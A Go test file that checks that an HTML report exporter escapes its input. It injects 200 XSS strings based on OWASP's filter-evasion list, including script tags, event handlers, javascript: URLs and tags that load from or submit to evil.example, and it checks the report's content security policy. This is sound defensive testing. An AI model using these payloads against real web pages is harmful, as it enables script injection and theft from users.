package export_test

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"qunxiang/core/export"
	"qunxiang/sdk"
)

// attacks are 200 texts that would run, load or break out if a report did not
// escape them. After OWASP, "XSS Filter Evasion".
func attacks() []string {
	forms := []string{
		`<script>%s</script>`, `"><script>%s</script>`, `'><img src=x onerror=%s>`, `<svg onload=%s>`, `</style><script>%s</script>`,
		`</title><script>%s</script>`, `</svg><iframe src="javascript:%s">`, `<a href="javascript:%s">x</a>`, `<link rel=stylesheet href=//evil.example/%s>`,
		`<meta http-equiv=refresh content="0;url=//evil.example/%s">`, `" onmouseover="%s`, `' style='background:url(//evil.example/%s)'`, `<object data="//evil.example/%s">`,
		`<base href="//evil.example/%s">`, `{{%s}}`, `<!--%s-->`, `]]><script>%s</script>`, `<math><mi xlink:href="javascript:%s">`, `<form action=//evil.example/%s><button>`,
		"\u2028<script>%s</script>",
	}
	bodies := []string{`alert(1)`, `fetch('//evil.example')`, `eval(name)`, `x`, `&#97;lert(1)`, `\u0061lert(1)`, `document.write(1)`, `1;//`, "`1`", `a&b`}
	var out []string
	for _, f := range forms {
		for _, b := range bodies {
			out = append(out, fmt.Sprintf(f, b))
		}
	}
	return out
}

var (
	drawing = regexp.MustCompile(`(?s)<svg.*?</svg>`)
	tag     = regexp.MustCompile(`<[^>]*>`)
	fetched = regexp.MustCompile(`(?i)(src|href|action|data)\s*=\s*"?([^">]*)`)
)

// TestReportIsInert puts every attack into every text of a report: the tags stay
// what they are, nothing is fetched, nothing runs.
func TestReportIsInert(t *testing.T) {
	t.Parallel()
	all := attacks()
	if len(all) < 200 {
		t.Fatalf("only %d attacks", len(all))
	}
	calm := report(t, "calm")
	want := tag.FindAllString(drawing.ReplaceAllString(calm, ""), -1)
	for i := 0; i < len(all); i += 50 { // fifty at once in every field
		poison := strings.Join(all[i:i+50], " ")
		html := report(t, poison)
		got := tag.FindAllString(drawing.ReplaceAllString(html, ""), -1)
		if strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Fatalf("%.300q changes the tags of the report", poison)
		}
		for _, svg := range drawing.FindAllString(html, -1) {
			for _, m := range tag.FindAllString(svg, -1) {
				if name := strings.Trim(strings.Fields(m)[0], "</>"); !strings.Contains(" svg g path title image rect ", " "+name+" ") {
					t.Errorf("%q puts the tag %s into a chart", poison, m)
				}
				for _, f := range fetched.FindAllStringSubmatch(m, -1) {
					if !strings.HasPrefix(f[2], "data:image/png;base64,") {
						t.Errorf("%q makes a chart fetch %q", poison, f[2])
					}
				}
			}
		}
	}
	if !strings.Contains(calm, `content="default-src 'none'; img-src data:; font-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"`) {
		t.Error("the report has no content security policy")
	}
}

func report(t *testing.T, poison string) string {
	t.Helper()
	var b bytes.Buffer
	if err := export.Report(t.Context(), &b, reported(sdk.EN, poison)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}
